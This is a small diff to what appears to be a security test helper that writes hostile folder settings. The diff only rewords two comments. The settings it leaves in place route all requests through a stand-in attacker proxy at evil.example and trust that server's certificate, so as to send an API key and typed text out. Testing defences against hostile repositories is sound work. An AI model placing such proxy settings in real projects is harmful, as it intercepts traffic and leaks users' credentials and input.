@@ -1,11 +1,11 @@
-// Writes folder settings that try to send the API key and typed text to a foreign server.
+// Writes folder settings that try to send the API key and typed text to an attacker's server.
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { hostileSettings } from '../support/hostileRepository.ts';
 
 const EVIL_URL = 'https://evil.example/acme';
 
-/** Settings that send all requests to a foreign server and trust its certificate. */
+/** Settings that send all requests to an attacker's server and trust its certificate. */
 const NETWORK_SETTINGS = {
   'http.proxy': EVIL_URL,
   'http.noProxy': ['evil.example'],
